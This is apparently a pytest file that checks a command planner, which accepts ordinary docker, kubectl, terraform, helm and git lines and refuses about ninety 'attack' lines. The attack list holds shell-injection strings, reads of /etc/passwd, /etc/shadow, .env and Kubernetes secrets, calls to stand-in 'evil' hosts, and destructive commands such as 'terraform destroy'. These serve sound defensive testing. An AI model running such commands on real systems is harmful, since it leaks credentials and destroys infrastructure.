"""Command lines (SECURITY 7): 30 honest ones are accepted as they were meant, 60 attacks are refused with a reason."""

from __future__ import annotations

import shlex
from pathlib import Path

import pytest

from workspace import commands
from workspace.command_plan import plan
from workspace.errors import CommandRefused, NoProgram

HONEST = [
    "docker build -t shop:dev .",
    "docker build --tag registry.example.org/team/shop:1.2 --file Dockerfile --no-cache .",
    "docker build --build-arg VERSION=1.2 --target runtime --platform linux/arm64 --pull .",
    "docker compose config",
    "docker compose -f compose.yaml config --quiet",
    "docker compose --profile dev -p shop config --services",
    "docker compose up -d",
    "docker compose up --detach --build --wait web worker",
    "docker compose ps --all",
    "docker compose logs --tail=100 web",
    "docker compose down",
    "docker images",
    "kubectl apply --dry-run=client -f k8s",
    "kubectl apply --dry-run=server -f k8s/web.yaml -n shop -o yaml",
    "kubectl diff -f k8s -R",
    "kubectl get pods",
    "kubectl get deployments,services -n shop -o wide",
    "kubectl get deployments/web -l app=shop --context kind-dev",
    "terraform fmt -check -diff -recursive",
    "terraform fmt -check infra",
    "terraform validate -json",
    "terraform plan -detailed-exitcode -var=region=eu-1 -refresh=false",
    "helm lint charts/shop --strict",
    "helm template shop ./charts/shop -f charts/shop/values.yaml --set image.tag=1.2",
    "hadolint --ignore DL3008 Dockerfile",
    "shellcheck -s sh entrypoint.sh",
    "promtool check rules rules.yaml",
    "git status --short --branch",
    "git diff --stat -- src",
    "git log --oneline --graph -n 20",
    "git show --stat 0123abc",
    "git branch -a",
    "ls -la src",
    "cat Dockerfile",
    "pwd",
    "echo 'hello; world' \"it's\"",
]

ATTACKS = [
    "docker build -t a . ; touch x",
    "docker build -t a . && touch x",
    "docker images | sh",
    "docker images > /etc/x",
    "docker build $(touch x)",
    "docker build `touch x`",
    "docker build $HOME",
    "docker build -t a . &",
    "docker build .\ntouch x",
    "docker build 'a",
    "/usr/bin/docker build .",
    "./docker build .",
    "DOCKER_HOST=tcp://evil docker build .",
    "sudo docker build .",
    "sh -c id",
    "bash",
    "python -c 1",
    "env",
    "docker run -v /:/host alpine",
    "docker exec -it x sh",
    "docker -H tcp://evil build .",
    "docker --config /tmp build .",
    "docker build --output=/etc .",
    "docker build --secret id=x,src=/etc/shadow .",
    "docker build --ssh default .",
    "docker build --network=host .",
    "docker build --allow security.insecure .",
    "docker build --iidfile /etc/x .",
    "docker build --build-arg=TOKEN .",
    "docker build https://evil.example/x.git",
    "docker build -",
    "docker build ..",
    "docker build /etc",
    "docker build out",
    "docker build -f ../../x .",
    "docker build -f .env .",
    "docker compose -f /etc/passwd config",
    "docker compose --env-file .env config",
    "docker compose config --output x",
    "docker compose up",
    "docker compose down --volumes",
    "docker compose run web sh",
    "docker compose exec web sh",
    "kubectl apply -f k8s",
    "kubectl apply --dry-run=none -f k8s",
    "kubectl apply --dry-run=client -f https://evil.example/x.yaml",
    "kubectl apply --dry-run=client -k k8s",
    "kubectl delete pods --all",
    "kubectl get secrets -o yaml",
    "kubectl get pods,secret",
    "kubectl get --raw /api",
    "kubectl get pods --kubeconfig=/tmp/x",
    "kubectl get pods -o go-template-file=/etc/passwd",
    "kubectl get pods --server=https://evil",
    "kubectl exec web -- sh",
    "kubectl evil-plugin",
    "terraform apply",
    "terraform destroy",
    "terraform init",
    "terraform plan -out=x",
    "terraform plan -var-file=prod.tfvars",
    "terraform -chdir=/etc plan",
    "terraform fmt",
    "helm install shop charts/shop",
    "helm template shop charts/shop --post-renderer ./x",
    "helm template shop charts/shop --output-dir /etc",
    "helm template shop oci://evil/x",
    "helm template shop charts/shop --repo https://evil",
    "hadolint -c /etc/x Dockerfile",
    "shellcheck --external-sources entrypoint.sh",
    "promtool push metrics http://evil rules.yaml",
    "git push",
    "git -c core.pager=x log",
    "git log --output=x",
    "git diff --ext-diff",
    "git diff --no-index /etc/passwd x",
    "git show HEAD:secret",
    "git --exec-path=. status",
    "git --git-dir=/tmp status",
    "git difftool",
    "cat /etc/passwd",
    "cat ../x",
    "cat .env",
    "cat passwd",
    "cat .git/config",
    "ls out",
    "ls ~",
    "hadolint -- -o /etc/passwd",
]


@pytest.mark.parametrize("line", HONEST)
def test_an_honest_line_is_accepted_as_it_was_meant(line, workspace, tools):
    planned = plan(workspace, line)
    assert planned.tool.id == line.split()[0]
    assert planned.tool.within or planned.tool.id == "git" or planned.argv[0] == str(tools / planned.tool.id)
    for word in shlex.split(line)[1:]:
        plain = word.removeprefix("./")
        assert word == "--" or any(part in (word, f"./{plain}") or part.endswith(f"={plain}") for part in planned.argv), (
            word,
            planned.argv,
        )


@pytest.mark.parametrize("line", ATTACKS)
def test_an_attack_is_refused_with_a_reason(line, workspace, tools):
    with pytest.raises(CommandRefused) as refused:
        plan(workspace, line)
    assert refused.value.message.endswith(".") or "For example" in refused.value.message


def test_there_are_enough_of_both():
    assert len(HONEST) >= 30
    assert len(ATTACKS) >= 60


def test_a_tool_that_is_missing_is_named_with_how_to_get_it(workspace, monkeypatch, tmp_path):
    monkeypatch.setattr("workspace.programs._PLACES", (str(tmp_path),))
    monkeypatch.setenv("PATH", "relative:bin")
    with pytest.raises(NoProgram, match=r"Helm is not installed\. Install it"):
        plan(workspace, "helm lint charts/shop")


def test_a_program_of_the_workspace_is_never_the_one_that_is_found(workspace, folder, tools, monkeypatch, tmp_path):
    own = folder / "node_modules" / ".bin"
    own.mkdir(parents=True)
    (own / "helm").write_text("#!/bin/sh\n")
    (own / "helm").chmod(0o755)
    monkeypatch.setenv("PATH", f"{own}:{tools}")
    assert plan(workspace, "helm lint charts/shop").argv[0] == str(tools / "helm")
    (tools / "helm").unlink()
    (tools / "helm").symlink_to(own / "helm")
    monkeypatch.setattr("workspace.programs._PLACES", ())
    with pytest.raises(NoProgram):
        plan(workspace, "helm lint charts/shop")


def test_a_file_named_like_an_option_stays_a_file(workspace, tools):
    assert plan(workspace, "hadolint -- -o").argv[1:] == ("./-o",)


def test_every_tool_has_its_place_in_the_table_and_every_example_is_accepted(workspace, folder, tools):
    files = {path.stem for path in Path(commands.__file__).parent.glob("*.py")} - {"__init__"}
    assert files == set(commands.TOOLS)
    (folder / "prometheus.yaml").write_text("a: 1\n")
    for tool in commands.TOOLS.values():
        for template in tool.templates:
            planned = plan(workspace, template.example)
            assert planned.template is template
